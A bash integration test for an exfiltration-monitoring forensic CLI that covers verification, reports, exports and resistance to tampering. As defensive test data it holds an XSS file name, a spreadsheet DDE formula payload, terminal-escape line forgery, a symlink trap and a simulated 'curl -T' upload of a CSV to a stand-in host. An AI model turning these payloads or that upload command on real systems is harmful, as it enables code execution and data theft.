#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The investigator's path on a copied store with known figures (tests/lib/gen_evidence.c
# writes it through the real writer): verify, sessions, alerts, timeline, export, and
# the HTML report rendered in Debian's headless Chromium, whose DOM must show the right
# user, byte totals, alerts, gaps and verification, with hostile names shown as text.
# Then damage: a flipped bit, a removed segment, a cut-off tail, foreign and empty
# directories and bad arguments must give clear errors and the right exit status.
# Last, the attacks on the investigator (issue 11 part D) on a hostile store: decoy
# floods that must not push the real upload out of the report, a per-user alert that
# must show in each session it covers, formula cells in the CSV, a symlink at -o.
# Needs no root and no BPF. usage: tests/integration/test_report.sh
set -u
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
BUILD=${BUILD:-$ROOT/build}
T=$(mktemp -d /tmp/exfilmon-report.XXXXXX)
trap 'rm -rf "$T"' EXIT
PASS=0 FAIL=0
check() { # NAME ACTUAL EXPECTED
	if [ "$2" = "$3" ]; then PASS=$((PASS + 1)); echo "  ok   $1 ($2)"
	else FAIL=$((FAIL + 1)); echo "  FAIL $1: got '$2', expected '$3'"; fi
}
die() { echo "test_report: FATAL: $*" >&2; exit 1; }
ctl() { "$BUILD/exfilctl" "$@"; }

[ -x "$BUILD/exfilctl" ] || die "run make first"
# BUILD=DIR runs the checks against another build (the code before a fix, say).
[ "$BUILD" != "$ROOT/build" ] || make -s -C "$ROOT" build/libexfilmon.a >/dev/null ||
	die "make build/libexfilmon.a"
gcc -std=gnu11 -Wall -Wextra -Werror -I"$ROOT/user" -I"$ROOT/include" \
	"$ROOT/tests/lib/gen_evidence.c" "$BUILD/libexfilmon.a" \
	$(pkg-config --libs zlib liblz4 jansson libcrypto) -o "$T/gen_evidence" || die "gen_evidence build"
"$T/gen_evidence" "$T/live" 300 || die "gen_evidence"
cp -a "$T/live" "$T/copy"
D=$T/copy

ctl verify --dir "$D" >"$T/verify.txt"
check "copied store verifies" "$?" 0
check "verify says intact" "$(cut -d: -f1 "$T/verify.txt" | head -1)" intact
check "verify --json" "$(ctl verify --dir "$D" --json | python3 -c 'import json,sys; d=json.load(sys.stdin); print(d["intact"], d["segments"] > 1, d["problem"], d["verdict"])')" "True True None intact"
HEAD=$(ctl verify --dir "$D" --json | python3 -c 'import json,sys; d=json.load(sys.stdin); print("%s:%d:%s" % (d["head_segment"], d["head_block"], d["head"]))')
ctl verify --dir "$D" --expect "$HEAD" >/dev/null
check "verify --expect the SIEM's chain head: exit 0" "$?" 0
ctl verify --dir "$D" --expect "${HEAD%:*}:$(printf 'ab%.0s' $(seq 32))" >"$T/verify.txt"
check "verify --expect a different hash: exit 1" "$?" 1
check "verify --expect a different hash: says so" "$(grep -c '^EXPECTED HEAD NOT MATCHED: .*the store was rewritten' "$T/verify.txt")" 1
ctl verify --dir "$D" --expect "${HEAD%%:*}:9999:${HEAD##*:}" >"$T/verify.txt"
check "verify --expect a block past the end (tail cut off): exit 1" "$?" 1
check "verify --expect a block past the end: says so" "$(grep -c 'is not in the verified chain' "$T/verify.txt")" 1
ctl verify --dir "$D" --expect "seg:1:nothex" 2>/dev/null
check "verify --expect malformed: exit 2" "$?" 2
check "sessions --json: alice's totals" \
	"$(ctl sessions --dir "$D" --json | python3 -c 'import json,sys; s={x["session_id"]: x for x in map(json.loads, sys.stdin)}[7]; print(s["user"], s["source_bytes"], s["egress_bytes"], s["alerts"])')" \
	"alice 4500000 4000000 2"
check "alerts: latest revisions" "$(ctl alerts --dir "$D" --json | python3 -c 'import json,sys; print(sorted((a["rule"]["name"], a["exfilmon"]["revision"]) for a in map(json.loads, sys.stdin)))')" \
	"[('bulk_collection_bytes', 1), ('exfiltration', 2)]"
# Every --json is NDJSON: one object per line, never an array.
for c in "alerts" "sessions" "verify" "timeline --session 7"; do
	check "$c --json is NDJSON" "$(ctl $c --dir "$D" --json | python3 -c 'import json,sys; print(all(isinstance(json.loads(l), dict) for l in sys.stdin))')" True
done
check "alerts --user carol: none of alice's" "$(ctl alerts --dir "$D" --user carol --json | wc -l)" 0
check "alerts --user carol: header only" "$(ctl alerts --dir "$D" --user carol | wc -l)" 1
check "alerts --user alice" "$(ctl alerts --dir "$D" --user alice --json | python3 -c 'import json,sys; print(sorted({a["user"]["name"] for a in map(json.loads, sys.stdin)}))')" "['alice']"
check "alerts --rule" "$(ctl alerts --dir "$D" --rule exfiltration --json | python3 -c 'import json,sys; print([a["rule"]["name"] for a in map(json.loads, sys.stdin)])')" "['exfiltration']"
check "alerts --host ws1 / ws2" "$(ctl alerts --dir "$D" --host ws1 --json | wc -l)/$(ctl alerts --dir "$D" --host ws2 --json | wc -l)" 2/0
check "sessions --user bob" "$(ctl sessions --dir "$D" --user bob --json | python3 -c 'import json,sys; print([(s["session_id"], s["user"]) for s in map(json.loads, sys.stdin)])')" "[(8, 'bob')]"
check "sessions --user carol: none" "$(ctl sessions --dir "$D" --user carol --json | wc -l)" 0
# The alerts' own @timestamp as --since, with a fraction, an offset, and a relative time.
TS=$(ctl alerts --dir "$D" --rule exfiltration --json | python3 -c 'import json,sys; print(json.loads(sys.stdin.readline())["@timestamp"])')
check "alerts --since its own @timestamp" "$(ctl alerts --dir "$D" --since "$TS" --json | wc -l)" 1
check "alerts --since with fraction (1 ms after)" "$(ctl alerts --dir "$D" --since "${TS%.000Z}.001Z" --json | wc -l)" 0
check "alerts --since with an offset (same instant, +02:00)" \
	"$(ctl alerts --dir "$D" --since "$(date -u -d "$TS 2 hours" +%Y-%m-%dT%H:%M:%S.000+02:00)" --json | wc -l)" 1
check "alerts --since -2h (store is older)" "$(ctl alerts --dir "$D" --since -2h --json | wc -l)" 0
check "alerts --until now" "$(ctl alerts --dir "$D" --until now --json | wc -l)" 2
# An option a command does not support is an error, never silently ignored.
for c in "sessions --rule x" "export --rule x" "timeline --session 7 --host h" "verify --user alice" \
	 "report --session 7 -o $T/r.html --json" "export --json" "sessions --expect a:1:b"; do
	ctl $c --dir "$D" >/dev/null 2>"$T/err.txt"
	check "$c: exit 2" "$?" 2
	check "$c: names the option" "$(grep -c 'is not an option of' "$T/err.txt")" 1
done
ctl timeline --dir "$D" --session 7 >"$T/timeline.txt"
check "timeline exit" "$?" 0
check "timeline: reads, upload, in order" "$(grep -oE 'source_net|source_file|staging|egress_net' "$T/timeline.txt" | tr '\n' ' ')" \
	"source_net source_file staging egress_net egress_net "
check "timeline: a newline or escape in a command line cannot forge a line" \
	"$(grep -c 'sh -c :\\x0a2026-11-18 11:00:00  exit curl\\x1b\[2J$' "$T/timeline.txt"):$(grep -c $'\e' "$T/timeline.txt")" "1:0"
check "timeline: no other session" "$(grep -c 'less' "$T/timeline.txt")" 0
check "timeline: a backslash is escaped once (\\copy as \\x5ccopy)" "$(grep -c -- '-c \\x5ccopy customers' "$T/timeline.txt")" 1
check "timeline --user with --until" "$(ctl timeline --dir "$D" --user alice --until 1795000008 | grep -c egress_net)" 0
ctl timeline --dir "$D" --user alice --since 2026-11-18T11:06:49Z --until 1795000011 >"$T/window.txt"
check "timeline --user in a window: the upload, its alert, the gap" \
	"$(grep -oE 'egress_net|ALERT +exfiltration rev 1|GAP|login' "$T/window.txt" | tr -s ' ' | tr '\n' ,)" \
	"egress_net,ALERT exfiltration rev 1,GAP,"
check "export csv rows for session 7" "$(ctl export --dir "$D" --session 7 --format csv | grep -c '^"[0-9]*",".*","activity","7"')" 5
check "export: every ECS field is in the ECS 8.x reference with its type, allowed values only" \
	"$(ctl export --dir "$D" --format json | python3 "$ROOT/tests/lib/ecs_check.py" "$ROOT/tests/lib/fixtures/ecs_fields.txt")" \
	"ok 321 records"
check "export json lines parse" "$(ctl export --dir "$D" --format json | python3 -c 'import json,sys; print(sum(1 for l in sys.stdin if json.loads(l)))')" 321

ctl report --dir "$D" --session 7 -o "$T/report.html"
check "report written" "$?" 0
check "report has no external assets" "$(grep -ciE '(src|href)=|<script|<link|<iframe|@import|url\(\s*.?(https?:|//)' "$T/report.html")" 0

command -v chromium >/dev/null || { [ "$(id -u)" = 0 ] && apt-get install -y -qq chromium >/dev/null; }
command -v chromium >/dev/null || die "chromium missing (scripts/install-deps.sh test installs it)"
timeout 120 chromium --headless --no-sandbox --disable-gpu --disable-background-networking \
	--disable-component-update --disable-sync --no-first-run --user-data-dir="$T/chrome" \
	--dump-dom "file://$T/report.html" >"$T/dom.html" 2>"$T/chrome.log" ||
	{ tail -5 "$T/chrome.log"; die "chromium could not render the report"; }
# text ID: the rendered text inside the element with that id; count TAG: elements.
dom() { python3 - "$T/dom.html" "$@" <<'PY'
import html.parser, sys
class P(html.parser.HTMLParser):
    def __init__(s, want):
        super().__init__(); s.want = want; s.depth = 0; s.out = []; s.tags = {}
    def handle_starttag(s, tag, attrs):
        s.tags[tag] = s.tags.get(tag, 0) + 1
        if s.depth: s.depth += 1
        elif dict(attrs).get("id") == s.want: s.depth = 1
    def handle_endtag(s, tag):
        if s.depth: s.depth -= 1
    def handle_data(s, d):
        if s.depth: s.out.append(d)
mode, arg = sys.argv[2], sys.argv[3]
p = P(arg if mode == "text" else None); p.feed(open(sys.argv[1]).read())
print(" ".join(" ".join(p.out).split()) if mode == "text" else p.tags.get(arg, 0))
PY
}
check "rendered: user" "$(dom text user)" alice
check "rendered: from" "$(dom text from)" 10.9.8.7
check "rendered: bytes collected" "$(dom text collected)" 4500000
check "rendered: bytes sent out" "$(dom text sent)" 4000000
check "rendered: bytes staged" "$(dom text staged)" 4500000
check "rendered: verification" "$(dom text verify | cut -d: -f1)" intact
check "rendered: exfiltration alert at revision 2" "$(dom text alerts | grep -o 'exfiltration 2 4500000 4000000')" "exfiltration 2 4500000 4000000"
check "rendered: bulk collection alert" "$(dom text alerts | grep -c bulk_collection_bytes)" 1
check "rendered: both gaps" "$(dom text gaps | grep -o 'this session\|all sessions' | tr '\n' ,)" "this session,all sessions,"
check "rendered: chart legend" "$(dom text chart-collected)/$(dom text chart-leaving)" "collected 4500000 bytes/leaving 4000000 bytes"
check "rendered: chart has both curves" "$(dom count polyline)" 2
check "rendered: hostile file name shown as text" "$(dom text sources | grep -cF '/srv/customers/<script>alert(1)</script>&x.csv source_file 1500000')" 1
check "rendered: no script element" "$(dom count script)" 0
check "rendered: command line shown as text" "$(dom text processes | grep -cF "'/tmp/<b>c</b>.csv'")" 1
check "rendered: only the tree's own bold names (bash, psql, sh, curl)" "$(dom count b)" 4
check "rendered: process tree nests psql and curl under bash" "$(dom text processes | grep -c '^500 bash -bash 501 psql .* 502 curl ')" 1
check "rendered: bob's file not in alice's report" "$(grep -c one.csv "$T/dom.html")" 0

# A single flipped bit is caught and located.
seg=$(ls "$D"/seg-*.xev | sed -n 2p)
python3 - "$seg" <<'PY'
import sys
p = sys.argv[1]; b = bytearray(open(p, "rb").read()); b[len(b) // 2] ^= 0x10
open(p, "wb").write(b)
PY
ctl verify --dir "$D" >"$T/verify.txt"
check "flipped bit fails verify" "$?" 1
check "verify names segment, block and offset" "$(grep -cE "^NOT INTACT: $(basename "$seg"): block [0-9]+ at offset [0-9]+: " "$T/verify.txt")" 1
rm -rf "$D" && cp -a "$T/live" "$D"
seg=$(ls "$D"/seg-*.xev | tail -1)
python3 - "$seg" <<'PY'
import sys
p = sys.argv[1]; b = bytearray(open(p, "rb").read()); b[-3] ^= 0x01
open(p, "wb").write(b)
PY
ctl report --dir "$D" --session 7 -o "$T/bad.html" 2>"$T/warn.txt"
check "report on a damaged store still written" "$?" 0
check "report shows the damage" "$(grep -c 'NOT INTACT' "$T/bad.html")" 1
check "commands warn on a damaged store" "$(grep -c 'WARNING: evidence not intact' "$T/warn.txt")" 1

# A removed segment, and a store whose last block was cut off mid-write.
rm -rf "$D" && cp -a "$T/live" "$D"
rm "$(ls "$D"/seg-*.xev | sed -n 2p)"
ctl verify --dir "$D" >"$T/verify.txt"
check "removed segment fails verify" "$?" 1
check "removed segment named as missing blocks" "$(grep -c 'blocks missing' "$T/verify.txt")" 1
rm -rf "$D" && cp -a "$T/live" "$D"
last=$(ls "$D"/seg-*.xev | tail -1)
truncate -s -50 "$last"
ctl verify --dir "$D" >"$T/verify.txt"
check "cut-off tail fails verify" "$?" 1
check "cut-off tail is named torn" "$(grep -c 'torn block' "$T/verify.txt")" 1
check "records before the torn block still listed" "$(ctl sessions --dir "$D" --json 2>/dev/null | wc -l)" 2

# Directories that are not stores, and bad arguments.
mkdir -p "$T/empty" "$T/foreign" && echo hello >"$T/foreign/notes.txt"
head -c 500 /dev/urandom >"$T/foreign/seg-0000000000000000.xev"
ctl verify --dir "$T/nonexistent" 2>"$T/err.txt" >/dev/null
check "missing directory: verify exit 3 (unreadable, not tampered)" "$?" 3
check "missing directory: clear error" "$(grep -c 'No such file or directory' "$T/err.txt")" 1
ctl sessions --dir "$T/empty" 2>"$T/err.txt"
check "empty directory: exit 1" "$?" 1
check "empty directory: clear error" "$(grep -c 'no evidence segments' "$T/err.txt")" 1
ctl verify --dir "$T/foreign" >"$T/verify.txt"
check "foreign segment: exit 1" "$?" 1
check "foreign segment: clear error" "$(grep -c 'not an evidence block header' "$T/verify.txt")" 1
ctl verify --dir "$T/report.html" >/dev/null 2>&1
check "a file as directory: verify exit 3" "$?" 3
ctl verify --dir "$T/empty" >/dev/null 2>&1
check "empty directory: verify exit 3" "$?" 3
# A segment the reader may not open is "cannot verify", not "tampered" (as nobody when root).
rm -rf "$D" && cp -a "$T/live" "$D" && chmod -R a+rX "$T" && chmod 000 "$(ls "$D"/seg-*.xev | sed -n 2p)"
as_user=()
[ "$(id -u)" = 0 ] && as_user=(setpriv --reuid=65534 --regid=65534 --clear-groups)
"${as_user[@]}" "$BUILD/exfilctl" verify --dir "$D" >"$T/verify.txt" 2>&1
check "unreadable segment: verify exit 3" "$?" 3
check "unreadable segment: says it cannot verify" "$(grep -c '^CANNOT VERIFY: .*Permission denied' "$T/verify.txt")" 1
ctl report --dir "$T/live" --session 7 2>/dev/null
check "report without -o: exit 2" "$?" 2
ctl timeline --dir "$T/live" --session seven 2>/dev/null
check "non-numeric session: exit 2" "$?" 2
ctl timeline --dir "$T/live" --session 7 --since last-tuesday 2>/dev/null
check "bad time: exit 2" "$?" 2
ctl export --dir "$T/live" --format xml 2>/dev/null
check "bad format: exit 2" "$?" 2
ctl report --dir "$T/live" --session 99 -o "$T/none.html" 2>/dev/null
check "unknown session: exit 1" "$?" 1

# --version on both programs, and bash completion built from the commands' own help.
check "exfilctl --version" "$(ctl --version; echo $?)" "exfilctl $(sed -n 's/^VERSION *:= *//p' "$ROOT/Makefile")
0"
check "exfilmond --version" "$("$BUILD/exfilmond" --version; echo $?)" "exfilmond $(sed -n 's/^VERSION *:= *//p' "$ROOT/Makefile")
0"
complete_words() { # WORDS...: what completing the last word offers
	bash -c 'source "$1"; shift; COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); _exfilctl; echo "${COMPREPLY[*]}"' \
		_ "$ROOT/scripts/completion/exfilctl" "$BUILD/exfilctl" "$@"
}
check "completion: commands" "$(complete_words al)" alerts
check "completion: alerts options" "$(complete_words alerts --)" "--dir --help --host --json --rule --session --since --until --user"
check "completion: sessions has no --rule" "$(complete_words sessions --r)" ""
check "completion: --format values" "$(complete_words export --format c)" csv

# --- Attacks on the investigator (issue 11 part D), on the hostile store.
H=$T/hostile
"$T/gen_evidence" "$H" 0 hostile || die "gen_evidence hostile"
# table ID: its rows as name|kind|bytes; the last is the everything-else row if any.
rows() { python3 - "$1" "$2" <<'PY'
import html.parser, sys
class P(html.parser.HTMLParser):
    def __init__(s, want):
        super().__init__(); s.want = want; s.on = False; s.rows = []; s.cell = None
    def handle_starttag(s, tag, attrs):
        if tag == "table" and dict(attrs).get("id") == s.want: s.on = True
        elif s.on and tag == "tr": s.rows.append([])
        elif s.on and tag in ("td", "th"): s.cell = []
    def handle_endtag(s, tag):
        if tag == "table": s.on = False
        elif s.on and tag in ("td", "th") and s.cell is not None:
            s.rows[-1].append(" ".join("".join(s.cell).split())); s.cell = None
    def handle_data(s, d):
        if s.cell is not None: s.cell.append(d)
p = P(sys.argv[2]); p.feed(open(sys.argv[1]).read())
for r in p.rows[1:]: print("|".join(r))
PY
}
ctl report --dir "$H" --session 20 -o "$T/h20.html"
check "decoys: report written" "$?" 0
rows "$T/h20.html" destinations >"$T/dst.txt"
rows "$T/h20.html" sources >"$T/src.txt"
check "decoys: the 5 GB destination is the first row" "$(head -1 "$T/dst.txt")" "127.0.0.77:8080|egress_net|5000000000"
check "decoys: the 5 GB source is the first row" "$(head -1 "$T/src.txt")" "127.0.0.2:5432|source_net|5000000000"
check "decoys: destinations end with an everything-else row" "$(tail -1 "$T/dst.txt")" "everything else: 576 more||576"
check "decoys: 25 rows and the rest add up to the bytes sent out" \
	"$(awk -F'|' '{s += $3} END {printf "%d %.0f", NR, s}' "$T/dst.txt")" "26 5000000600"
check "decoys: sources add up to the bytes collected" \
	"$(awk -F'|' '{s += $3} END {printf "%.0f", s}' "$T/src.txt")" 5000000606
python3 - "$T/h20.html" >"$T/procs.txt" <<'PY'
import re, sys
h = open(sys.argv[1]).read()
tree = re.search(r'<ul class="tree" id="processes">(.*)</ul>', h, re.S).group(1)
print(re.sub(r"<[^>]+>", " ", tree))
PY
check "decoys: curl and its 5 GB in the process tree" "$(grep -c '2002 curl curl -T /tmp/all.csv http://127.0.0.77:8080/ (read 0, sent 5000000000 bytes)' <(tr -s ' ' <"$T/procs.txt"))" 1
check "decoys: the decoy execs are summed, not dropped" "$(grep -oE 'everything else: [0-9]+ more processes' "$T/procs.txt")" "everything else: 3909 more processes"
rows "$T/h20.html" timeline >"$T/tl.txt"
check "decoys: the timeline keeps the 5 GB upload past 5000 events" \
	"$(grep -c '|egress_net curl(2002) 1000000000 bytes -> 127.0.0.77:8080$' "$T/tl.txt"):$(grep -c '^2026' "$T/tl.txt")" "5:5000"
check "decoys: the timeline counts what it left out" \
	"$(grep -oE 'everything else: [0-9]+ more events' "$T/tl.txt")" "everything else: 327 more events"
# --json output as a list, whether one array or one object per line.
jlist() { python3 -c 'import json, sys
t = sys.stdin.read().strip()
v = json.loads(t) if t.startswith("[") else [json.loads(l) for l in t.splitlines() if l.strip()]
print(eval(sys.argv[1], {"v": v}))' "$1"; }
check "per-user alert counted in sessions 21 and 22 only" \
	"$(ctl sessions --dir "$H" --json | jlist 'sorted((s["session_id"], s["alerts"]) for s in v)')" \
	"[(20, 0), (21, 1), (22, 1), (23, 0), (24, 0)]"
check "alerts: a per-user alert is not shown as session 0" "$(ctl alerts --dir "$H" | awk 'NR > 1 {print $4}')" "21,22"
for s in 21 22 23 24; do
	n=$(ctl alerts --dir "$H" --session $s --json | jlist 'len(v)')
	ctl report --dir "$H" --session $s -o "$T/h$s.html"
	r=$(rows "$T/h$s.html" alerts | cut -d'|' -f2 | cut -d' ' -f1)
	t=$(ctl timeline --dir "$H" --session $s | grep -c 'ALERT .*slow_drip')
	case $s in 21|22) want="1 slow_drip 2" ;; *) want="0 none 0" ;; esac
	check "per-user alert in session $s: alerts --session, report, timeline" "$n $r $t" "$want"
done
ctl export --dir "$H" --session 20 --format csv >"$T/h20.csv"
check "csv: no cell a spreadsheet would run as a formula" "$(python3 -c '
import csv, sys
cells = [c for row in csv.reader(open(sys.argv[1], newline="")) for c in row]
print(len(cells) > 20000, sum(1 for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")))' "$T/h20.csv")" "True 0"
check "csv: a formula comm is kept, as text" "$(grep -c "\"'=cmd|' /C calc'!A0\"" "$T/h20.csv")" 2
check "csv: tab and CR comms neutralised" "$(grep -cE "\"'("$'\t'"TAB| CR)\"" "$T/h20.csv")" 4
# export and timeline stream the store: five times the records, the same memory.
rss() { python3 -c 'import resource, subprocess, sys
subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, check=True)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$@"; }
"$T/gen_evidence" "$T/small" 10000 big && "$T/gen_evidence" "$T/large" 50000 big || die "gen_evidence big"
for cmd in "export --format csv" "timeline --session 8"; do
	small=$(rss "$BUILD/exfilctl" $cmd --dir "$T/small") large=$(rss "$BUILD/exfilctl" $cmd --dir "$T/large")
	check "$cmd streams: 50000 records in the memory of 10000 (+4 MiB), under 32 MiB" \
		"$([ "$large" -lt $((small + 4096)) ] && [ "$large" -lt 32768 ] && echo yes || echo "no: $small KiB, $large KiB")" yes
done
rm -rf "$T/small" "$T/large"

echo precious >"$T/victim"
ln -s "$T/victim" "$T/link.html"
ctl report --dir "$H" --session 20 -o "$T/link.html" 2>"$T/err.txt"
check "-o through a symlink: refused, target untouched" "$?:$(head -c 20 "$T/victim")" "1:precious"
check "-o through a symlink: says why" "$(grep -c 'is a symbolic link (not followed' "$T/err.txt")" 1

echo "test_report: $PASS passed, $FAIL failed"
[ "$FAIL" = 0 ]
